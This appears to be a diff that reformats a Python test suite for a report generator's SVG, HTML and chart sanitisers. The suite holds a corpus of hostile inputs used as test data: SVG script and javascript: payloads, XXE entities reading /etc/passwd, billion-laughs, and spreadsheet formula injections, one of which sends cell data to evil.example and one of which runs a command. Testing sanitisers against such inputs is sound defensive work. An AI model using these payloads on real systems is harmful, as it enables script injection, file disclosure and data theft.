@@ -35,9 +35,12 @@ TEMPLATES = Path(__file__).resolve().parent.parent / "templates"
 
 # --- SVG logos: a hostile corpus -------------------------------------------------------
 
+
 def svg(body: str, root_attributes: str = "") -> bytes:
-    return (f'<svg xmlns="{SVG}" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"'
-            f'{root_attributes}>{body}<rect id="ok" width="5" height="5" fill="#123456"/></svg>').encode()
+    return (
+        f'<svg xmlns="{SVG}" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"'
+        f'{root_attributes}>{body}<rect id="ok" width="5" height="5" fill="#123456"/></svg>'
+    ).encode()
 
 
 HOSTILE_SVGS = {
@@ -48,8 +51,10 @@ HOSTILE_SVGS = {
     "onload-root": svg("", ' onload="alert(1)"'),
     "onclick": svg('<circle r="3" onclick="alert(1)" onmouseover="alert(2)"/>'),
     "onbegin-uppercase": svg('<g ONLOAD="alert(1)"><rect width="1" height="1"/></g>'),
-    "foreignObject": svg('<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">'
-                         '<iframe src="javascript:alert(1)"/></body></foreignObject>'),
+    "foreignObject": svg(
+        '<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">'
+        '<iframe src="javascript:alert(1)"/></body></foreignObject>'
+    ),
     "javascript-href": svg('<a href="javascript:alert(1)"><rect width="1" height="1"/></a>'),
     "javascript-xlink": svg('<a xlink:href="javascript:alert(1)"><text>x</text></a>'),
     "javascript-entity-encoded": svg('<a href="&#106;avascript:alert(1)"><text>x</text></a>'),
@@ -67,32 +72,37 @@ HOSTILE_SVGS = {
     "style-attribute-url": svg('<rect style="fill:url(\'http://evil.example/x\')" width="1" height="1"/>'),
     "fill-url-external": svg('<rect fill="url(https://evil.example/g.svg#g)" width="1" height="1"/>'),
     "filter-url-external": svg('<rect filter="url(//evil.example/f.svg#f)" width="1" height="1"/>'),
-    "animate-href": svg('<a href="#ok"><set attributeName="href" to="javascript:alert(1)"/>'
-                        '<text>x</text></a>'),
-    "animate-xlink": svg('<animate xlink:href="#ok" attributeName="xlink:href" '
-                         'values="javascript:alert(1)"/>'),
+    "animate-href": svg(
+        '<a href="#ok"><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>'
+    ),
+    "animate-xlink": svg(
+        '<animate xlink:href="#ok" attributeName="xlink:href" values="javascript:alert(1)"/>'
+    ),
     "animateTransform": svg('<animateTransform attributeName="transform" type="rotate"/>'),
-    "iframe-embed-object": svg('<iframe src="https://evil.example"/><embed src="x.swf"/>'
-                               '<object data="x.html"/>'),
+    "iframe-embed-object": svg(
+        '<iframe src="https://evil.example"/><embed src="x.swf"/><object data="x.html"/>'
+    ),
     "feImage": svg('<filter id="f"><feImage href="https://evil.example/x.png"/></filter>'),
     "handler-element": svg('<handler type="application/ecmascript">alert(1)</handler>'),
-    "inkscape-metadata": svg('<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>'
-                             '</metadata><g xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" '
-                             'inkscape:label="Layer" data-name="x"><path d="M0 0H1"/></g>'),
+    "inkscape-metadata": svg(
+        '<metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>'
+        '</metadata><g xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" '
+        'inkscape:label="Layer" data-name="x"><path d="M0 0H1"/></g>'
+    ),
     "pattern-external": svg('<pattern id="p" href="https://evil.example/p.svg#p"/>'),
     "mask-external": svg('<rect mask="url(\'https://evil.example/m.svg#m\')" width="1" height="1"/>'),
 }
 
 REFUSED_SVGS = {
     "doctype": b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
-               b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>',
+    b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>',
     "entity": b'<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>'
-              b'<svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
+    b'<svg xmlns="http://www.w3.org/2000/svg">&x;</svg>',
     "billion-laughs": b'<!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">'
-                      b'<!ENTITY c "&b;&b;&b;&b;&b;&b;">]><svg xmlns="http://www.w3.org/2000/svg">'
-                      b'<text>&c;&c;&c;</text></svg>',
+    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;">]><svg xmlns="http://www.w3.org/2000/svg">'
+    b"<text>&c;&c;&c;</text></svg>",
     "external-entity": b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
-                       b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
+    b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
     "html-document": b"<!doctype html><html><script>alert(1)</script></html>",
     "html-root": b"<html><body onload='alert(1)'/></html>",
     "not-xml": b"<svg><script>alert(1)</svg>",
@@ -109,8 +119,19 @@ def assert_static_drawing(published: bytes) -> None:
     """What a published SVG may hold: allow-listed SVG elements, no script, no way out."""
     text = published.decode("utf-8")
     lowered = re.sub(r'\sxmlns(:\w+)?="[^"]*"', "", text).lower()
-    for word in ("<script", "javascript:", "<!doctype", "<!entity", "foreignobject", "@import",
-                 "http:", "https:", "//evil", "data:text", "data:image/svg"):
+    for word in (
+        "<script",
+        "javascript:",
+        "<!doctype",
+        "<!entity",
+        "foreignobject",
+        "@import",
+        "http:",
+        "https:",
+        "//evil",
+        "data:text",
+        "data:image/svg",
+    ):
         assert word not in lowered, (word, text)
     root = ElementTree.fromstring(published)
     assert root.tag == f"{{{SVG}}}svg"
@@ -141,18 +162,27 @@ def test_svg_that_cannot_be_parsed_safely_is_refused(name):
 
 
 def test_plain_logo_is_kept_whole_and_fragments_still_work():
-    source = svg('<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient>'
-                 '<clipPath id="c"><circle r="4"/></clipPath></defs>'
-                 '<style>.a{fill:url(#g)}</style>'
-                 '<rect class="a" clip-path="url(#c)" width="9" height="9" style="fill:url(&quot;#g&quot;)"/>'
-                 '<use href="#ok" x="1"/><use xlink:href="#ok"/>'
-                 '<image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>'
-                 '<text x="1" y="8" font-size="3">A &amp; B <tspan fill="red">&lt;b&gt;</tspan></text>')
+    source = svg(
+        '<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient>'
+        '<clipPath id="c"><circle r="4"/></clipPath></defs>'
+        "<style>.a{fill:url(#g)}</style>"
+        '<rect class="a" clip-path="url(#c)" width="9" height="9" style="fill:url(&quot;#g&quot;)"/>'
+        '<use href="#ok" x="1"/><use xlink:href="#ok"/>'
+        '<image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>'
+        '<text x="1" y="8" font-size="3">A &amp; B <tspan fill="red">&lt;b&gt;</tspan></text>'
+    )
     published, removed = images.sanitize_svg(source)
     assert removed == ()
     assert_static_drawing(published)
-    for kept in (b'clip-path="url(#c)"', b".a{fill:url(#g)}", b'<use href="#ok" x="1"/>',
-                 b'xlink:href="#ok"', b"data:image/png;base64", b"A &amp; B <tspan", b"&lt;b&gt;"):
+    for kept in (
+        b'clip-path="url(#c)"',
+        b".a{fill:url(#g)}",
+        b'<use href="#ok" x="1"/>',
+        b'xlink:href="#ok"',
+        b"data:image/png;base64",
+        b"A &amp; B <tspan",
+        b"&lt;b&gt;",
+    ):
         assert kept in published, kept
 
 
@@ -164,15 +194,64 @@ def test_sanitizing_is_idempotent_and_deterministic():
 
 
 # Generated SVGs: any mix of allowed and hostile elements, attributes and values.
-_TAGS = st.sampled_from(["g", "rect", "path", "text", "a", "script", "foreignObject", "use", "image",
-                         "style", "set", "animate", "switch", "iframe", "h:script", "feImage", "defs"])
-_ATTRS = st.sampled_from(["fill", "href", "xlink:href", "onload", "onClick", "style", "id", "filter",
-                          "transform", "src", "data-x", "clip-path", "begin", "to", "values"])
-_VALUES = st.sampled_from(["#ok", "javascript:alert(1)", " JaVaScRiPt:alert(1)", "url(#ok)",
-                           "url(https://evil.example/x)", "url( 'http://evil.example' )",
-                           "https://evil.example/a.svg#b", "data:text/html,x",
-                           "data:image/png;base64,AAAA", "fill:red", "@import 'x'", "red", "",
-                           "\u202e<&>\"'"])
+_TAGS = st.sampled_from(
+    [
+        "g",
+        "rect",
+        "path",
+        "text",
+        "a",
+        "script",
+        "foreignObject",
+        "use",
+        "image",
+        "style",
+        "set",
+        "animate",
+        "switch",
+        "iframe",
+        "h:script",
+        "feImage",
+        "defs",
+    ]
+)
+_ATTRS = st.sampled_from(
+    [
+        "fill",
+        "href",
+        "xlink:href",
+        "onload",
+        "onClick",
+        "style",
+        "id",
+        "filter",
+        "transform",
+        "src",
+        "data-x",
+        "clip-path",
+        "begin",
+        "to",
+        "values",
+    ]
+)
+_VALUES = st.sampled_from(
+    [
+        "#ok",
+        "javascript:alert(1)",
+        " JaVaScRiPt:alert(1)",
+        "url(#ok)",
+        "url(https://evil.example/x)",
+        "url( 'http://evil.example' )",
+        "https://evil.example/a.svg#b",
+        "data:text/html,x",
+        "data:image/png;base64,AAAA",
+        "fill:red",
+        "@import 'x'",
+        "red",
+        "",
+        "\u202e<&>\"'",
+    ]
+)
 
 
 @st.composite
@@ -182,8 +261,12 @@ def svg_nodes(draw, depth=0):
     rendered = "".join(f' {k}="{html.escape(v, quote=True)}"' for k, v in attributes.items())
     children = draw(st.lists(svg_nodes(depth + 1), max_size=3)) if depth < 3 else []
     text = html.escape(draw(st.text(max_size=8)).replace("\x00", ""), quote=False)
-    text = "".join(c for c in text if c in "\t\n\r" or (ord(c) >= 0x20 and not 0xD800 <= ord(c) <= 0xDFFF
-                                                         and ord(c) not in (0xFFFE, 0xFFFF)))
+    text = "".join(
+        c
+        for c in text
+        if c in "\t\n\r"
+        or (ord(c) >= 0x20 and not 0xD800 <= ord(c) <= 0xDFFF and ord(c) not in (0xFFFE, 0xFFFF))
+    )
     return f"<{tag}{rendered}>{text}{''.join(children)}</{tag}>"
 
 
@@ -242,8 +325,10 @@ def test_fake_png_logo_is_an_error_at_its_line(project):
     line = set_logo(project, "acme.png", b"<html><script>alert(1)</script></html>")
     result = run_cli("check", "--project", project)
     assert result.exit_code == 1
-    assert (f"clients.yaml:{line}: clients[1].brand.logo: 'assets/acme.png' is not a PNG image"
-            in result.output + (result.stderr or "")), result.output
+    assert (
+        f"clients.yaml:{line}: clients[1].brand.logo: 'assets/acme.png' is not a PNG image"
+        in result.output + (result.stderr or "")
+    ), result.output
 
 
 def test_svg_with_doctype_is_an_error_and_the_old_site_stays(tmp_path, project):
@@ -258,10 +343,12 @@ def test_svg_with_doctype_is_an_error_and_the_old_site_stays(tmp_path, project):
     assert sorted(p.as_posix() for p in out.rglob("*")) == before
 
 
-HOSTILE_LOGO = svg("<script>document.documentElement.setAttribute('data-pwned', 'script')</script>"
-                   '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">x</body></foreignObject>'
-                   '<image href="https://evil.example/t.png" width="1" height="1"/>',
-                   """ onload="document.documentElement.setAttribute('data-pwned', 'onload')\"""")
+HOSTILE_LOGO = svg(
+    "<script>document.documentElement.setAttribute('data-pwned', 'script')</script>"
+    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">x</body></foreignObject>'
+    '<image href="https://evil.example/t.png" width="1" height="1"/>',
+    """ onload="document.documentElement.setAttribute('data-pwned', 'onload')\"""",
+)
 
 
 @pytest.fixture(scope="module")
@@ -274,8 +361,9 @@ def hostile_site(tmp_path_factory) -> Path:
     document = yaml.safe_load((root / "clients.yaml").read_text())
     acme = document["clients"][0]
     renames = {}  # old campaign id → (new id, name, channel)
-    for (campaign, new_id, name, channel) in zip(acme["campaigns"], FORMULA_IDS, MARKUP_NAMES,
-                                                 MARKUP_CHANNELS, strict=True):
+    for campaign, new_id, name, channel in zip(
+        acme["campaigns"], FORMULA_IDS, MARKUP_NAMES, MARKUP_CHANNELS, strict=True
+    ):
         renames[campaign["id"]] = (new_id, channel)
         campaign.update(id=new_id, name=name, channel=channel)
     (root / "clients.yaml").write_text(yaml.safe_dump(document, sort_keys=False, width=1000))
@@ -287,20 +375,24 @@ def hostile_site(tmp_path_factory) -> Path:
         csv.writer(buffer, lineterminator="\n").writerows(rows)
         data.write_text(buffer.getvalue())
     note = root / "content" / "acme-corp" / "2026-10.md"
-    note.write_text(note.read_text() + '\n```chart\nmetric: spend\ntype: bar\nby: campaign\n'
-                    'compare: previous\n```\n\n<h2 id="chart-1-data">Not data</h2>\n'
-                    '<h3 id="chart-1">x</h3><h4 id="download-metrics-csv">y</h4>\n')
+    note.write_text(
+        note.read_text() + "\n```chart\nmetric: spend\ntype: bar\nby: campaign\n"
+        'compare: previous\n```\n\n<h2 id="chart-1-data">Not data</h2>\n'
+        '<h3 id="chart-1">x</h3><h4 id="download-metrics-csv">y</h4>\n'
+    )
     result = run_cli("build", "--project", root)
     assert result.exit_code == 0, result.output
     assert "left out of the published logo" in result.output + (result.stderr or "")
     return root / "site"
 
 
-FORMULA_IDS = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "+1+cmd|' /C calc'!A0",
-               "-2+3"]
-MARKUP_NAMES = ['<a href="https://evil.example/">Linked name</a>', '<b style="color:red">Bold name</b>',
-                "Tom & Jerry <br> ads"]
-MARKUP_CHANNELS = ['@SUM(1+1)<i>chan</i>', '@SUM(1+1)<i>chan</i>', "\tsocial <sup>x</sup>"]
+FORMULA_IDS = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3"]
+MARKUP_NAMES = [
+    '<a href="https://evil.example/">Linked name</a>',
+    '<b style="color:red">Bold name</b>',
+    "Tom & Jerry <br> ads",
+]
+MARKUP_CHANNELS = ["@SUM(1+1)<i>chan</i>", "@SUM(1+1)<i>chan</i>", "\tsocial <sup>x</sup>"]
 
 
 def test_published_logos_are_static_drawings(hostile_site):
@@ -353,8 +445,10 @@ def test_no_page_id_starts_with_the_note_prefix():
 
 
 def test_markdown_heading_anchors_take_the_prefix_and_links_follow():
-    out = render_markdown('# Kpis\n\n## Results\n\n[up](#results) [page](#campaigns)\n\n## Results\n'
-                          '<h3 id="trends">raw</h3><h4 id="note-x">kept</h4>')
+    out = render_markdown(
+        "# Kpis\n\n## Results\n\n[up](#results) [page](#campaigns)\n\n## Results\n"
+        '<h3 id="trends">raw</h3><h4 id="note-x">kept</h4>'
+    )
     ids = re.findall(r'\sid="([^"]*)"', out)
     # Every id a note gives takes the prefix, even one already starting with it: a heading
     # "note-budget" must not collide with "## Budget".
@@ -366,17 +460,24 @@ _ID_TEXT = st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=20
 
 
 @settings(max_examples=50, deadline=None)
-@given(st.lists(st.tuples(st.sampled_from(["h1", "h2", "h3", "div", "p", "a", "span", "section"]),
-                          _ID_TEXT), max_size=5))
+@given(
+    st.lists(
+        st.tuples(st.sampled_from(["h1", "h2", "h3", "div", "p", "a", "span", "section"]), _ID_TEXT),
+        max_size=5,
+    )
+)
 def test_every_id_a_note_keeps_carries_the_prefix(elements):
-    source = "".join(f'<{tag} id="{html.escape(value, quote=True)}" name="{html.escape(value)}">x</{tag}>'
-                     for tag, value in elements)
+    source = "".join(
+        f'<{tag} id="{html.escape(value, quote=True)}" name="{html.escape(value)}">x</{tag}>'
+        for tag, value in elements
+    )
     for out in (sanitize_html(source), render_markdown(source)):
         for value in re.findall(r'\s(?:id|name)="([^"]*)"', out):
             assert value.startswith(NOTE_ID_PREFIX), (value, out)
 
 
 # --- Plotly: user text is text ---------------------------------------------------------
+
 
 @settings(max_examples=50, deadline=None)
 @given(st.text(max_size=40))
@@ -388,23 +489,27 @@ def test_plotly_text_escapes_and_round_trips(text):
 
 
 @settings(max_examples=30, deadline=None)
-@given(st.lists(st.text(min_size=1, max_size=20), min_size=1, max_size=4, unique=True),
-       st.text(max_size=20))
+@given(st.lists(st.text(min_size=1, max_size=20), min_size=1, max_size=4, unique=True), st.text(max_size=20))
 def test_figures_carry_user_text_only_escaped(names, series_name):
     style = charts.ChartStyle(brand="#2563eb", fmt=Formatter("en_US", "USD"))
     points = [(name, float(i)) for i, name in enumerate(names)]
     marks = [(0, names[0])]
-    views = [charts.line_chart("t", [charts.Series(series_name or "x", points, "currency")], style,
-                               kind="bar", marks=marks),
-             charts.pie_chart("t", charts.Series(series_name or "x", points, "count"), style)]
+    views = [
+        charts.line_chart(
+            "t", [charts.Series(series_name or "x", points, "currency")], style, kind="bar", marks=marks
+        ),
+        charts.pie_chart("t", charts.Series(series_name or "x", points, "count"), style),
+    ]
     for view in views:
         for trace in view.figure["data"]:
             # Legend entries wrap with Plotly's <br>: the only markup reportgen adds.
             shown = [trace.get("name", ""), *trace.get("x", []), *trace.get("labels", [])]
             for text in shown:
                 assert "<" not in text.replace("<br>", "") and ">" not in text.replace("<br>", "")
-            unwrapped = {re.sub(r"\s", "", html.unescape(t.replace("<br>", "")))
-                         for t in trace.get("x", trace.get("labels", []))}
+            unwrapped = {
+                re.sub(r"\s", "", html.unescape(t.replace("<br>", "")))
+                for t in trace.get("x", trace.get("labels", []))
+            }
             assert unwrapped <= {re.sub(r"\s", "", name) for name in names}
             assert "<" not in trace["hovertemplate"].replace("<extra>", "").replace("</extra>", "")
         for annotation in view.figure["layout"].get("annotations", []):
@@ -419,6 +524,7 @@ def test_a_figure_with_unescaped_text_is_refused():
 
 
 # --- host headers ---------------------------------------------------------------------
+
 
 def test_headers_file_sends_the_policy_for_every_path():
     blocks: dict[str, dict[str, str]] = {}
@@ -441,18 +547,22 @@ def test_headers_file_sends_the_policy_for_every_path():
     for other, headers in blocks.items():
         if other != "/*":
             assert not {"Content-Security-Policy", "X-Frame-Options", "X-Content-Type-Options"} & set(
-                headers), other
+                headers
+            ), other
 
 
 # --- in Chromium ----------------------------------------------------------------------
+
 
 def open_report(browser, path: Path):
     context = browser.new_context(viewport={"width": 1280, "height": 900})
     page = context.new_page()
     problems: list[str] = []
     page.on("pageerror", lambda error: problems.append(f"pageerror: {error}"))
-    page.on("console", lambda message: problems.append(f"console: {message.text}")
-            if message.type == "error" else None)
+    page.on(
+        "console",
+        lambda message: problems.append(f"console: {message.text}") if message.type == "error" else None,
+    )
     page.on("popup", lambda popup: problems.append(f"popup: {popup.url}"))
     page.goto(path.as_uri())
     draw_all_charts(page, 30_000)  # charts draw as they near the view
@@ -470,8 +580,9 @@ def test_no_toolbar_button_sends_data_off_the_page(browser, hostile_site, relati
                        b.getAttribute('data-val') || '', b.tagName, b.getAttribute('href') || ''])""")
         assert buttons
         for title, attr, val, tag, href in buttons:
-            assert not re.search(r"cloud|share|studio|edit|plotly|json", " ".join((title, attr, val)),
-                                 re.I), (title, attr, val)
+            assert not re.search(
+                r"cloud|share|studio|edit|plotly|json", " ".join((title, attr, val)), re.I
+            ), (title, attr, val)
             assert tag.lower() != "a" and not href, (title, href)
         titles = {b[0] for b in buttons}
         assert titles <= {"Download plot as a PNG", "Zoom", "Pan", "Zoom in", "Zoom out", "Reset axes"}
@@ -495,8 +606,11 @@ def test_names_with_markup_are_shown_literally_inside_charts(browser, hostile_si
             };
         }""")
         assert inside["links"] == 0 and inside["styled"] == 0
-        for name in ('<a href="https://evil.example/">Linked name</a>', '<b style="color:red">Bold name</b>',
-                     "@SUM(1+1)<i>chan</i>"):
+        for name in (
+            '<a href="https://evil.example/">Linked name</a>',
+            '<b style="color:red">Bold name</b>',
+            "@SUM(1+1)<i>chan</i>",
+        ):
             # literally, if cut on the axis (charts.tick_text: the full name in the hover)
             assert name in inside["text"] or name[:12] in inside["text"], name
         # The note's look-alike ids did not replace a chart's figure.
@@ -509,8 +623,10 @@ def test_names_with_markup_are_shown_literally_inside_charts(browser, hostile_si
         for fraction in (1 / 6, 1 / 2, 5 / 6):  # one bar group each (a row: names down the side)
             drag.hover(position={"x": box["width"] * 0.5, "y": box["height"] * fraction})
             page.wait_for_timeout(200)
-            shown.append(page.evaluate("""() => Array.from(document.querySelectorAll('.hoverlayer'))
-                .map(layer => layer.textContent).join(' ')"""))
+            shown.append(
+                page.evaluate("""() => Array.from(document.querySelectorAll('.hoverlayer'))
+                .map(layer => layer.textContent).join(' ')""")
+            )
             assert page.evaluate("document.querySelectorAll('.hoverlayer a').length") == 0
         hover = " | ".join(shown)
         assert sum(name in hover for name in MARKUP_NAMES) >= 2, hover
